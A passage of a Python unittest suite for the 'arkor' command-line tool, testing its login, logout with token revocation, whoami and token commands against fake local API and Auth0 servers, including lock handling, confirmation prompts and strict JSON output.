        code, out, err = _login_main_on_tty(self, "login", typed="2\n", CI="1")
        self.assertEqual((code, err), (0, NUDGE))
        self.assertEqual(out, anon_output("anon-0001", self.creds, "anon-org-0001"))

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_replace_question_no_keeps_the_identity(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        sent_before_the_answer: list[object] = []

        def no(shown: str) -> str:
            sent_before_the_answer.extend(self.cloud.seen())
            return "n"

        code, shown, err = self.run_tty(["login", "--anonymous"], [no], NO_COLOR="1")
        self.assertEqual((code, shown, err), (0, self.REPLACE + "n\nAborted.\n", ""))
        self.assertEqual(sent_before_the_answer, [])
        self.assertEqual(self.cloud.seen(), [])
        self.assertEqual(self.creds_bytes(), before)

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_replace_question_yes_mints_a_new_identity(self) -> None:
        self.sign_in_anon()
        code, shown, err = self.run_tty(["login", "--anonymous"], ["y"], NO_COLOR="1")
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(shown, self.REPLACE + "y\n" + anon_output("anon-0001", self.creds, "anon-org-0001"))
        stored = self.read_creds()
        self.assertEqual((stored["anonymousId"], stored["orgSlug"]), ("anon-0001", "anon-org-0001"))

    def test_replace_question_end_of_input_keeps_the_identity(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        for typed in ("", "\n", "yes please\n"):
            with self.subTest(typed=typed):
                code, out, err = _login_main_on_tty(self, "login", "--anonymous", typed=typed)
                self.assertEqual((code, err), (0, ""))
                self.assertEqual(out, self.REPLACE + ("\n" if not typed else "") + "Aborted.\n")
        self.assertEqual(self.cloud.seen(), [])
        self.assertEqual(self.creds_bytes(), before)

    def test_without_a_terminal_the_identity_is_replaced_and_said_so(self) -> None:
        self.sign_in_anon()
        code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        self.assertEqual(err, "Replaced the anonymous identity anon-stored; it cannot be restored.\n")
        self.assertEqual(out, anon_output("anon-0001", self.creds, "anon-org-0001"))
        self.assertEqual(self.read_creds()["anonymousId"], "anon-0001")

    def test_an_oauth_file_is_replaced_without_a_word(self) -> None:
        self.write_creds(self.auth0_creds())
        code, out, err = _login_main_on_tty(self, "login", "--anonymous")
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(out, anon_output("anon-0001", self.creds, "anon-org-0001"))

    def test_unwritable_home_sends_nothing(self) -> None:
        # A login never mints an identity it cannot store.
        home = tempfile.mkdtemp(prefix="arkor-ro-home-")
        self.addCleanup(shutil.rmtree, home, True)
        if POSIX and os.geteuid() != 0:
            os.chmod(home, 0o555)
            self.addCleanup(os.chmod, home, 0o700)
            reason = "Permission denied"
        elif can_mount_tmpfs():
            subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=16k", "tmpfs", home], check=True)
            self.addCleanup(subprocess.run, ["umount", home], check=False)
            reason = "Read-only file system"
        else:
            self.skipTest("needs a non-root user, or root with mount(8)")
        self.cloud.config = OAUTH_CONFIG
        lock = os.path.join(home, ".arkor", "credentials.json.lock")
        for flags in (["--anonymous"], [], ["--oauth"]):
            with self.subTest(flags=flags):
                # (--timeout: a login that went on to wait for a browser would end soon.)
                code, out, err = self.run_main("login", *flags, "--timeout=5", HOME=home, USERPROFILE=home)
                self.assertEqual((code, out, err), (1, "", f"Could not write {lock}: {reason}.\n"))
                self.assertEqual(self.cloud.requests, [])

    def test_progress_line_is_flushed_through_a_pipe(self) -> None:
        # The first line must reach a pipe while the command still waits.
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(201, self.cloud.mint_anonymous(), delay=30))
        proc = subprocess.Popen(
            [sys.executable, MODULE, "login"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=self.env(),  # no PYTHONUNBUFFERED: a missing flush must show
        )
        try:
            assert proc.stdout is not None
            ready, _, _ = select.select([proc.stdout], [], [], 15) if POSIX else ([proc.stdout], [], [])
            self.assertTrue(ready, "no output while waiting")
            line = proc.stdout.readline().decode()
            self.assertEqual(line, "OAuth is not configured. Continuing with an anonymous session.\n")
            self.assertIsNone(proc.poll())
        finally:
            proc.kill()
            proc.communicate()


class LogoutTest(OAuthCase):
    """``arkor logout``: the question, what is deleted, the lock, and the
    revocation of an OAuth refresh token at Auth0."""

    # -- no file, flags, no terminal ---------------------------------------------

    def test_no_file(self) -> None:
        for argv in (["logout"], ["logout", "--yes"]):
            with self.subTest(argv=argv):
                code, out, err = self.run_main(*argv)
                self.assertEqual((code, out, err), (0, "No credentials on file.\n", ""))
        self.assertFalse(os.path.exists(self.arkor_dir))

    def test_anonymous_with_yes_warns_and_removes_only_the_credentials(self) -> None:
        self.sign_in_anon()
        other = os.path.join(self.arkor_dir, "state.json")
        with open(other, "w") as f:
            f.write("{}")
        code, out, err = self.run_main("logout", "-y")
        self.assertEqual(code, 0)
        self.assertEqual(out, f"Removed {self.creds}.\n")
        self.assertEqual(err, "The anonymous identity anon-stored cannot be restored once deleted.\n")
        self.assertEqual(sorted(os.listdir(self.arkor_dir)), ["credentials.json.lock", "state.json"])
        self.assertEqual((self.cloud.requests, self.auth0.requests), ([], []))

    def test_no_terminal_takes_the_default_no_and_revokes_nothing(self) -> None:
        before = self.sign_in_oauth()
        code, out, err = self.run_main("logout", stdin="y\n")  # stdin is not a TTY
        self.assertEqual(code, 0)
        self.assertEqual(out, "Aborted.\n")
        self.assertEqual(
            err, "Nobody can be asked here (no terminal, or CI is set); pass --yes to delete without asking.\n"
        )
        self.assertEqual(self.read_creds(), before)
        self.assertEqual(self.auth0.requests, [])

    def test_broken_file_can_still_be_removed(self) -> None:
        self.write_creds(b"{broken")
        code, out, err = self.run_main("logout", "-y")
        self.assertEqual((code, out, err), (0, f"Removed {self.creds}.\n", ""))
        self.assertFalse(os.path.exists(self.creds))

    @unittest.skipUnless(POSIX and hasattr(os, "geteuid") and os.geteuid() != 0, "root reads mode-000 folders")
    def test_a_file_it_cannot_see_is_not_called_absent(self) -> None:
        # ~/.arkor that this user cannot search (mode 000): os.path.lexists()
        # calls a file it cannot look at absent, and logout answered "No
        # credentials on file.", exit 0, the credentials still on disk (a CI
        # clean-up step would pass). The file is there: logout -y fails on it,
        # naming it, and logout alone takes its default, as for any file.
        self.sign_in_anon()
        os.chmod(self.arkor_dir, 0)
        self.addCleanup(os.chmod, self.arkor_dir, 0o700)
        self.assertEqual(
            self.run_main("logout", "-y"), (1, "", f"Could not write {self.creds}.lock: Permission denied.\n")
        )
        self.assertEqual(
            self.run_main("logout"),
            (
                0,
                "Aborted.\n",
                "Nobody can be asked here (no terminal, or CI is set); pass --yes to delete without asking.\n",
            ),
        )
        os.chmod(self.arkor_dir, 0o700)
        self.assertTrue(os.path.exists(self.creds))

    # -- the lock, and only what was confirmed -------------------------------------

    @unittest.skipUnless(POSIX, "fcntl")
    def test_a_held_lock_stops_logout_before_it_revokes(self) -> None:
        import fcntl

        before = self.sign_in_oauth()
        with open(self.creds + ".lock", "a") as held:
            fcntl.flock(held.fileno(), fcntl.LOCK_EX)
            code, out, err = self.run_main("logout", "-y", ARKOR_HTTP_TIMEOUT="0.2")
        self.assertEqual(
            (code, out, err), (1, "", f"Another arkor process holds {self.creds}.lock; try again in a moment.\n")
        )
        self.assertEqual((self.auth0.revoked, self.auth0.requests), ([], []))
        self.assertTrue(self.auth0.accepts(before["refreshToken"]))
        self.assertEqual(self.read_creds(), before)

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_a_file_changed_while_the_question_was_open_is_kept(self) -> None:
        self.sign_in_anon()
        self.secrets.append("anon-token-other")
        other = {
            "mode": "anon",
            "token": "anon-token-other",
            "anonymousId": "anon-other",
            "arkorCloudApiUrl": self.cloud.url,
            "orgSlug": "other-org",
        }
        written: list[bytes] = []

        def sign_in_elsewhere(shown: str) -> str:
            written.append(self.write_creds(other))  # another arkor signed in meanwhile
            return "y"

        code, shown, err = self.run_tty(["logout"], [sign_in_elsewhere], NO_COLOR="1")
        self.assertEqual(len(written), 1, shown)
        self.assertIn(
            f"The anonymous identity anon-stored cannot be restored once deleted. Delete {self.creds}? [y/N] ", shown
        )
        self.assertEqual(
            (code, err),
            (
                1,
                f"{self.creds} changed while the question was open; nothing was deleted. Run `arkor logout` again.\n",
            ),
        )
        self.assertNotIn("Removed", shown)
        self.assertEqual(self.creds_bytes(), written[0])

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_a_renewal_while_the_question_was_open_still_deletes(self) -> None:
        stored = self.sign_in_oauth()
        tokens = self.auth0._issue(refresh=True)
        renewed = dict(
            stored,
            accessToken=tokens["access_token"],
            refreshToken=tokens["refresh_token"],
            expiresAt=stored["expiresAt"] + 3600,
        )

        def renew_meanwhile(shown: str) -> str:
            self.write_creds(renewed)  # the same sign-in, renewed by another arkor
            return "y"

        # NO_COLOR set, even empty, means no colour.
        code, shown, err = self.run_tty(["logout"], [renew_meanwhile], NO_COLOR="")
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(shown.endswith(f"Delete {self.creds}? [y/N] y\nRemoved {self.creds}.\n"), shown)
        self.assertFalse(os.path.exists(self.creds))
        # What is revoked is the refresh token on file when it was deleted.
        self.assertEqual([form["token"] for form in self.auth0.revoked], [renewed["refreshToken"]])

    # -- the question on a terminal ---------------------------------------------

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_confirmation_on_a_terminal(self) -> None:
        self.sign_in_oauth()
        before = self.creds_bytes()
        code, shown, err = self.run_tty(["logout"], [""], NO_COLOR="1")  # Enter: the default, No
        self.assertEqual((code, shown, err), (0, f"Delete {self.creds}? [y/N] \nAborted.\n", ""))
        self.assertEqual(self.creds_bytes(), before)
        self.assertEqual(self.auth0.revoked, [])
        # Yes in any case; on a terminal without NO_COLOR the result is green.
        code, shown, err = self.run_tty(["logout"], ["YES"])
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(shown, f"Delete {self.creds}? [y/N] YES\n\x1b[32mRemoved {self.creds}.\x1b[0m\n")
        self.assertFalse(os.path.exists(self.creds))
        self.assertEqual(len(self.auth0.revoked), 1)

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_undecodable_answer_counts_as_no(self) -> None:
        before = self.sign_in_anon()
        # PYTHONIOENCODING makes the streams strict (C.UTF-8 alone gives surrogateescape).
        code, shown, err = self.run_tty(
            ["logout"], [b"\xff\n"], LANG="C.UTF-8", LC_ALL="C.UTF-8", PYTHONIOENCODING="utf-8:strict", NO_COLOR="1"
        )
        self.assertEqual((code, err), (0, ""))
        # The question says what is lost with an anonymous identity; the byte typed is echoed back.
        question = f"The anonymous identity anon-stored cannot be restored once deleted. Delete {self.creds}? [y/N] "
        self.assertEqual(shown, question + "\ufffd\nAborted.\n")
        self.assertEqual(self.read_creds(), before)

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_no_question_when_stdout_is_redirected(self) -> None:
        # `arkor logout > log` from a terminal: a question needs a person at
        # stdin and stdout both (SPEC 1); the default, No, is taken.
        import pty

        before = self.sign_in_oauth()
        master, slave = pty.openpty()
        try:
            proc = subprocess.run(
                [sys.executable, MODULE, "logout"],
                stdin=slave,
                capture_output=True,
                text=True,
                env=self.env(NO_COLOR="1"),
                timeout=20,
                check=False,
            )
        finally:
            os.close(slave)
            os.close(master)
        self.assertEqual(
            (proc.returncode, proc.stdout, proc.stderr),
            (
                0,
                "Aborted.\n",
                "Nobody can be asked here (no terminal, or CI is set); pass --yes to delete without asking.\n",
            ),
        )
        self.assertEqual(self.read_creds(), before)

    # -- revoking the refresh token ----------------------------------------------

    def test_every_yes_flag_deletes_and_revokes_without_asking(self) -> None:
        for flag in ("-y", "--yes", "-f", "--force"):
            with self.subTest(flag=flag):
                stored = self.sign_in_oauth()
                revoked = len(self.auth0.revoked)
                code, out, err = self.run_main("logout", flag)
                self.assertEqual((code, out, err), (0, f"Removed {self.creds}.\n", ""))
                self.assertFalse(os.path.exists(self.creds))
                self.assertEqual(
                    self.auth0.revoked[revoked:],
                    [
                        {
                            "client_id": self.auth0.client_id,
                            "token": stored["refreshToken"],
                            "token_type_hint": "refresh_token",
                        }
                    ],
                )
                self.assertFalse(self.auth0.accepts(stored["refreshToken"]))
        for revoke in self.auth0.seen("POST", "/oauth/revoke"):
            self.assertEqual(revoke.headers["content-type"], "application/x-www-form-urlencoded")
        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
        self.assertEqual(self.cloud.requests, [])

    def test_file_removed_whatever_auth0_answers(self) -> None:
        import functools

        revoke = f"https://{self.auth0.domain}/oauth/revoke"
        cases = [
            (Answer(500), None, f"{revoke} answered 500"),
            (Answer(400, {"error": "invalid_request"}), None, f"{revoke} answered 400"),
            # Never answers: the revocation is bounded by min(5 s, ARKOR_HTTP_TIMEOUT).
            (Answer(200, delay=30), "0.3", f"Could not reach {revoke}: timed out"),
            (None, None, f"Could not reach {revoke}: Connection refused"),  # Auth0 is down
        ]
        for answer, timeout, reason in cases:
            with self.subTest(reason=reason):
                self.sign_in_oauth()
                if answer is None:
                    self.auth0.stop()
                else:
                    self.auth0.script("POST", "/oauth/revoke", answer)
                # A guard well below the 5 s cap: the revocation must end at ARKOR_HTTP_TIMEOUT.
                logout = functools.partial(self.run_main, "logout", "-y", ARKOR_HTTP_TIMEOUT=timeout)
                code, out, err = _files_call_guarded(self, logout, 4)
                self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
                self.assertEqual(
                    err, f"Could not revoke the refresh token ({reason}); it stays valid until it expires.\n"
                )
                self.assertFalse(os.path.exists(self.creds))


class WhoamiTest(Case):
    """``arkor whoami`` and ``arkor whoami --json``."""

    def whoami_encoded(self, encoding: str, *argv: str) -> tuple[int, bytes]:
        """``main([...])`` with a stdout that encodes as ``encoding`` (strictly),
        as a process's own stdout does under PYTHONIOENCODING=<encoding>."""
        raw = io.BytesIO()
        stdout = io.TextIOWrapper(raw, encoding=encoding, write_through=True)
        code, _, _ = self.run_main(*argv, stdout=stdout)
        self._record(raw.getvalue().decode(encoding, "replace"))
        return code, raw.getvalue()

    def test_not_signed_in(self) -> None:
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out, err), (0, NOT_SIGNED_IN, ""))
        # stdout is for JSON alone; and no JSON is a failure a script must see.
        code, out, err = self.run_main("whoami", "--json")
        self.assertEqual((code, out, err), (1, "", NOT_SIGNED_IN))
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.arkor_dir))

    def test_signed_in_anonymously(self) -> None:
        self.sign_in_anon()
        self.cloud.add_token(
            "anon-token-stored",
            user={"id": "u1", "name": "Zo\u00eb"},
            orgs=[{"slug": "first", "id": "o1"}, {"id": "o2"}, {"slug": "third"}],
        )
        code, out, err = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assertEqual(out, '{\n  "id": "u1",\n  "name": "Zo\u00eb"\n}\nOrgs: first, o2, third\n')
        self.assertEqual(err, "")
        (request,) = self.cloud.requests
        self.assertEqual((request.method, request.path), ("GET", "/v1/me"))
        self.assertEqual(request.headers["authorization"], "Bearer anon-token-stored")
        self.assertEqual(request.headers["x-arkor-client"], f"arkor/{arkor_cli.__version__}")
        self.assertEqual(request.headers["accept"], "application/json")
        # No orgs, no Orgs line.
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
        code, out, _ = self.run_main("whoami")
        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))

    def test_output_the_terminal_cannot_encode(self) -> None:
        self.sign_in_anon()
        self.cloud.add_token("anon-token-stored", user={"name": "Zo\u00eb \u7f8e"}, orgs=[{"slug": "caf\u00e9"}])
        code, out = self.whoami_encoded("ascii", "whoami")
        self.assertEqual((code, out), (0, b'{\n  "name": "Zo\\xeb \\u7f8e"\n}\nOrgs: caf\\xe9\n'))
        # --json is ASCII: valid JSON in any encoding.
        body = {"user": {"name": "Zo\u00eb \U0001f600"}, "orgs": []}
        self.cloud.script("GET", "/v1/me", Answer(200, body))
        code, out = self.whoami_encoded("cp1252", "whoami", "--json")
        self.assertEqual(code, 0)
        self.assertEqual(json.loads(out.decode("cp1252")), body)

    def test_base_url_from_the_file_unless_the_variable_is_set(self) -> None:
        with FakeCloudApi() as other:
            other.add_token("anon-token-stored", user={"id": "from-file"}, orgs=[])
            self.sign_in_anon(base=other.url + "/")
            code, out, _ = self.run_main("whoami", ARKOR_CLOUD_API_URL=None)
            self.assertEqual((code, out), (0, '{\n  "id": "from-file"\n}\n'))
            self.assertEqual(len(other.requests), 1)
            self.assertEqual(self.cloud.requests, [])
            code, out, _ = self.run_main("whoami")  # ARKOR_CLOUD_API_URL wins
            self.assertEqual(len(other.requests), 1)
            self.assertEqual(len(self.cloud.requests), 1)

    def test_failed_fetch_is_informational(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        me = f"{self.cloud.url}/v1/me"
        anon_hint = ANON_401
        not_found = (
            f"{me} was not found: is the cloud-api base URL right? It is {self.cloud.url} (from ARKOR_CLOUD_API_URL);"
            " set ARKOR_CLOUD_API_URL to the base, without /v1.\n"
        )
        # On stderr, around the stdout line: what the request itself said (401),
        # and what the status more likely means (404, 5xx).
        hints = {
            401: (anon_hint, ""),
            403: ("", ""),
            404: ("", not_found),
            500: ("", f"The cloud-api failed at {me} (500): the token is likely fine; try again later.\n"),
            503: ("", f"The cloud-api failed at {me} (503): the token is likely fine; try again later.\n"),
        }
        for status, (before_line, after_line) in hints.items():
            for json_flag in ([], ["--json"]):
                with self.subTest(status=status, argv=json_flag):
                    self.cloud.script("GET", "/v1/me", Answer(status, {"error": "nope"}))
                    code, out, err = self.run_main("whoami", *json_flag)
                    line = f"Failed to fetch /v1/me ({status}). Token may be expired.\n"
                    if json_flag:  # stdout is for JSON alone, and no JSON is a failure
                        self.assertEqual((code, out, err), (1, "", line + after_line + before_line))
                    else:
                        self.assertEqual((code, out, err), (0, line, after_line + before_line))
        self.assertEqual(self.creds_bytes(), before)

    def test_a_base_url_ending_in_v1_is_named(self) -> None:
        self.sign_in_anon()
        base = self.cloud.url + "/v1"
        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=base)
        self.assertEqual((code, out), (0, "Failed to fetch /v1/me (404). Token may be expired.\n"))
        self.assertEqual(
            err,
            f"{base}/v1/me was not found: is the cloud-api base URL right? It is {base} (from ARKOR_CLOUD_API_URL);"
            " set ARKOR_CLOUD_API_URL to the base, without /v1.\n",
        )
        # The same base stored in the file: the hint names the file.
        self.sign_in_anon(base=base)
        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=None)
        self.assertEqual((code, out), (0, "Failed to fetch /v1/me (404). Token may be expired.\n"))
        self.assertEqual(
            err,
            f"{base}/v1/me was not found: is the cloud-api base URL right? It is {base}"
            f" (from arkorCloudApiUrl in {self.creds}); set ARKOR_CLOUD_API_URL to the base, without /v1.\n",
        )
        self.assertEqual([r.path for r in self.cloud.requests], ["/v1/v1/me", "/v1/v1/me"])

    def test_unsupported_sdk(self) -> None:
        self.sign_in_anon()
        gate = {
            "error": "sdk_version_unsupported",
            "currentVersion": "0.1.0",
            "supportedRange": ">=1.2.0",
            "upgrade": {"npm": "npm i arkor@latest"},
        }
        cases = [
            (
                Answer(426, gate),
                f"Arkor SDK 0.1.0 is no longer supported by the cloud API (supported: >=1.2.0). {COPIED_FIX}\n",
            ),
            (Answer(426, body=b""), f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n"),
            (
                Answer(426, body=b"<html>upgrade</html>"),
                f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n",
            ),
            (Answer(426, {"error": "other"}), f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n"),
        ]
        for answer, message in cases:
            for json_flag in ([], ["--json"]):
                with self.subTest(message, argv=json_flag):
                    self.cloud.script("GET", "/v1/me", answer)
                    code, out, err = self.run_main("whoami", *json_flag)
                    self.assertEqual((code, out, err), (1, "", message))

    def test_deprecation_warning_after_the_result(self) -> None:
        self.sign_in_anon()
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
        v = arkor_cli.__version__
        identity = {"user": {"id": "u1"}, "orgs": []}
        cases = [
            ({"Deprecation": "true"}, f"Arkor SDK {v} is deprecated (current: {v}). {COPIED_FIX}\n"),
            (
                {
                    "Deprecation": "true",
                    "Warning": '299 - "Upgrade \\"soon\\"" "Sat, 01 Nov 2026 00:00:00 GMT"',
                    "Sunset": "Tue, 01 Dec 2026 00:00:00 GMT",
                },
                f'Upgrade "soon" (current: {v}). Cutoff: Tue, 01 Dec 2026 00:00:00 GMT. {COPIED_FIX}\n',
            ),
            ({"Deprecation": "true", "Warning": "plain words"}, f"plain words (current: {v}). {COPIED_FIX}\n"),
            ({"Deprecation": "false", "Warning": '299 - "x"'}, ""),
        ]
        for headers, message in cases:
            with self.subTest(headers=headers):
                self.cloud.script("GET", "/v1/me", Answer(200, identity, headers=headers))
                code, out, err = self.run_main("whoami")
                self.assertEqual((code, out, err), (0, '{\n  "id": "u1"\n}\n', message))

    def test_deprecation_also_after_a_failure(self) -> None:
        self.sign_in_anon()
        self.cloud.script("GET", "/v1/me", Answer(426, body=b"", headers={"Deprecation": "true"}))
        code, out, err = self.run_main("whoami")
        v = arkor_cli.__version__
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n"
            f"Arkor SDK {v} is deprecated (current: {v}). {COPIED_FIX}\n",
        )

    # -- --json ---------------------------------------------------------------

    def test_json_prints_the_whole_body(self) -> None:
        self.sign_in_anon()
        body = {"user": {"id": "u1", "name": "Zo\u00eb"}, "orgs": [{"slug": "a"}], "extra": [1, None]}
        self.cloud.script("GET", "/v1/me", Answer(200, body))
        code, out, err = self.run_main("whoami", "--json")
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(out, json.dumps(body, indent=2) + "\n")  # ASCII: valid JSON in any encoding

    def test_json_is_strict_and_faithful(self) -> None:
        self.sign_in_anon()

        def refuse(constant: str) -> Any:
            raise AssertionError(f"{constant} is not JSON")

        # Huge but finite numbers, text in every script, control and format
        # characters: all come out as JSON that reads back equal.
        raw = (
            b'{"user": {"big": 1.7976931348623157e308, "tiny": -5e-324, "int": 123456789012345678901234567890,'
            b' "name": "Zo\xc3\xab \xe7\xbe\x8e \xf0\x9f\x98\x80 \\u202e\\u0000\\u001b[31m\\n\\t\\"x\\"",'
            b' "nested": [[[{}]]], "empty": ""}, "orgs": []}'
        )
        self.cloud.script("GET", "/v1/me", Answer(200, body=raw, headers={"Content-Type": "application/json"}))
        code, out, err = self.run_main("whoami", "--json")
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.isascii() and "\x1b" not in out, out)
        self.assertEqual(json.loads(out, parse_constant=refuse), json.loads(raw))
        # What strict JSON cannot carry is refused, on one line.
        me = f"{self.cloud.url}/v1/me"
        cases = [
            (
                b'{"user": {"n": 1e999}}\n{"more": 1}',
                'not JSON (the number 1e999 is out of range): {"user": {"n": 1e999}}',
            ),
            (b'{"user": {"n": -1e999}}', 'not JSON (the number -1e999 is out of range): {"user": {"n": -1e999}}'),
            (b'{"user": {"n": NaN}}', 'not JSON (NaN is not JSON): {"user": {"n": NaN}}'),
            (b'{"user": {"n": Infinity}}', 'not JSON (Infinity is not JSON): {"user": {"n": Infinity}}'),
            (b"<html>\n<title>Oops</title>", "not JSON (Expecting value (line 1, column 1)): an HTML page, 'Oops'"),
            (b"[1, 2]", "not a JSON object"),
        ]
        for body, what in cases:
            with self.subTest(body=body):
                self.cloud.script("GET", "/v1/me", Answer(200, body=body))
                code, out, err = self.run_main("whoami", "--json")
                self.assertEqual((code, out, err), (1, "", f"Unexpected answer from GET {me} (200): {what}.\n"))


# ---------------------------------------------------------------------------
# main: the command line, signals, pipes, imports
# ---------------------------------------------------------------------------


# The environment variables that `arkor --help` documents: each one arkor reads
# to be configured. HOME and USERPROFILE are read through a variable name, so
# the scan of the source below cannot see them; they are listed here.
class TokenTest(OAuthCase):
    """``arkor token``: the bearer token alone on stdout, for `$(arkor token)`."""

    def token(self, **env: str | None) -> tuple[int, str, str]:
        return self.run_main("token", stdout_is_data=True, **env)

    def test_a_fresh_token_costs_no_request(self) -> None:
        anon = self.sign_in_anon()
        self.assertEqual(self.token(), (0, anon["token"] + "\n", ""))
        oauth = self.sign_in_oauth()
        self.assertEqual(self.token(), (0, oauth["accessToken"] + "\n", ""))
        self.assertEqual((self.cloud.requests, self.auth0.requests), ([], []))

    def test_renewed_first_near_expiry(self) -> None:
        self.auth0.rotate = True
        self.sign_in_oauth(expires_in=30)
        code, out, err = self.token()
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(out, self.auth0.issued[-1]["access_token"] + "\n")
        self.assertEqual(self.read_creds()["refreshToken"], self.auth0.newest_refresh_token())

    def test_not_signed_in_or_a_broken_file_is_one_line_and_exit_1(self) -> None:
        self.assertEqual(self.token(), (1, "", NOT_SIGNED_IN))
        self.write_creds(b"{broken")
        code, out, err = self.token()
        self.assertEqual((code, out), (1, ""))
        self.assertTrue(err.startswith(f"{self.creds} does not hold valid arkor credentials"), err)
        self.assertEqual(len(err.splitlines()), 1)

    @unittest.skipUnless(POSIX, "fcntl")
    def test_an_expired_token_signed_out_while_waiting_for_the_lock_is_not_printed(self) -> None:
        # `arkor token` reads an expired OAuth token, then waits for the lock
        # (another arkor renewing). Meanwhile the Node CLI signs out: the
        # renewal finds the sign-in gone (as it would a file torn by an
        # unlocked writer), and the token read before must not be printed.
        # SPEC 9: a token that could not be renewed and has expired fails.
        import fcntl

        self.sign_in_oauth(expires_in=-100)
        with open(self.creds + ".lock", "a") as held:
            fcntl.flock(held.fileno(), fcntl.LOCK_EX)
            proc = self.spawn("token")
            assert proc.stderr is not None
            line = proc.stderr.readline()  # said after a second of waiting
            os.remove(self.creds)
        out, err = proc.communicate(timeout=60)
        self._record(out, line + err)
        self.assertEqual(line, f"Waiting for another arkor process, which holds {self.creds}.lock\u2026\n")
        expired = (
            f"The access token has expired and could not be renewed ({self.creds} no longer holds this"
            " sign-in). Try again, or run `arkor login --oauth`.\n"
        )
        self.assertEqual((proc.returncode, out, err), (1, "", expired))
        self.assertEqual(self.auth0.seen("POST"), [])

    def test_a_refused_renewal_fails(self) -> None:
        stored = self.sign_in_oauth(expires_in=30)
        self.auth0.refresh_tokens[stored["refreshToken"]]["revoked"] = True
        code, out, err = self.token()
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            "The session could not be renewed (Auth0: invalid_grant). Sign in again with `arkor login --oauth`.\n",
        )

    def test_an_unreachable_auth0_gives_the_stored_token_until_it_expires(self) -> None:
        stored = self.auth0_creds()  # its Auth0 refuses connections
        stored["expiresAt"] = int(time.time()) + 30
        self.write_creds(stored)
        code, out, err = self.token()
        self.assertEqual((code, out), (0, stored["accessToken"] + "\n"))
        self.assertTrue(err.startswith("Could not renew the access token (Could not reach https://"), err)
        self.assertTrue(err.endswith("); trying the stored one.\n"), err)
        stored["expiresAt"] = int(time.time()) - 30
        self.write_creds(stored)
        code, out, err = self.token()
        self.assertEqual((code, out), (1, ""))
        self.assertTrue(err.startswith("The access token has expired and could not be renewed (Could not reach"), err)

    @unittest.skipUnless(shutil.which("curl") and shutil.which("sh"), "needs curl and sh")
    def test_used_as_curl_is_told_to(self) -> None:
        self.sign_in_anon()
        command = (
            f'curl -sf -H "Authorization: Bearer $("{sys.executable}" "{MODULE}" token)" "$ARKOR_CLOUD_API_URL/v1/me"'
        )
        proc = subprocess.run(
            ["sh", "-c", command], capture_output=True, text=True, env=self.env(), timeout=30, check=False
        )
        self.assertEqual((proc.returncode, proc.stderr), (0, ""))
        self.assertEqual(json.loads(proc.stdout)["user"], self.cloud.user, proc.stdout)
        (me,) = self.cloud.seen("GET", "/v1/me")
        self.assertEqual(me.headers["authorization"], "Bearer anon-token-stored")


CLI_DOCUMENTED_ENV = (
    "ARKOR_CLOUD_API_URL",
    "ARKOR_HTTP_TIMEOUT",
    "ARKOR_DEBUG",
    "CI",
    "BROWSER",
    "DISPLAY",
    "WAYLAND_DISPLAY",
    "HTTPS_PROXY",
    "HTTP_PROXY",
    "NO_PROXY",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "NO_COLOR",
    "HOME",
    "USERPROFILE",
)
# Read only to tell the platform apart, set by the terminal or by WSL, never by
# a user configuring arkor: not in the help. Any other variable read must be.
CLI_PLATFORM_ENV = frozenset({"TERM", "WT_SESSION", "WSL_DISTRO_NAME", "WSLENV"})

CLI_USAGE = {
    None: "usage: arkor [-h] [--version] <command> ...\n",
    "login": "usage: arkor login [-h] [--oauth] [--anonymous] [--no-browser]\n                   [--timeout SECONDS]\n",
    "logout": "usage: arkor logout [-h] [-y]\n",
    "whoami": "usage: arkor whoami [-h] [--json]\n",
}


def cli_env_names_read(source: str) -> set[str]:
    """Every environment variable ``source`` reads by a literal name, from
    any mapping whose name ends in ``env`` or ``environ``: ``env.get("X")``,
    ``env["X"]``, ``"X" in env``, ``os.getenv("X")``. Writes
    (``child_env["X"] = ...``) are not reads."""
    name = r'"([A-Z][A-Z0-9_]*)"'
    mapping = r"\b\w*(?:env|environ)"
    patterns = (
        rf"{mapping}\.get\(\s*{name}",
        rf"{mapping}\[\s*{name}\s*\](?!\s*=[^=])",
        rf"\bgetenv\(\s*{name}",
        rf"{name}\s+(?:not\s+)?in\s+[\w.]*(?:env|environ)\b",
    )
    return {m for p in patterns for m in re.findall(p, source)}


class CommandLineTest(Case):
    def test_version(self) -> None:
        code, out, err = self.run_main("--version")
        self.assertEqual((code, out, err), (0, f"arkor {arkor_cli.__version__}\n", ""))

